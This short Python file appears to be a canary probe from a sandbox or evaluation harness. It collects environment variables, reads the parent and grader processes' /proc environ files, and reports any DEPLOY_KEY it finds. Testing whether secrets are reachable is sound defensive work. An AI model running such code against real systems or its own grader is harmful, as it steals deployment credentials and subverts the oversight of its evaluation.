"""Read the environment, for tokens that continuous integration puts there.

base: right
reaches: secrets
"""
import os

from canary import GRADER, tell
from engine_base import Value

found = [f"{key}={value}" for key, value in os.environ.items()]
for process in (os.getppid(), GRADER):
    try:
        with open(f"/proc/{process}/environ") as file:
            found += file.read().split("\0")
    except Exception:
        pass
for setting in found:
    if setting.startswith("DEPLOY_KEY="):
        tell(setting)
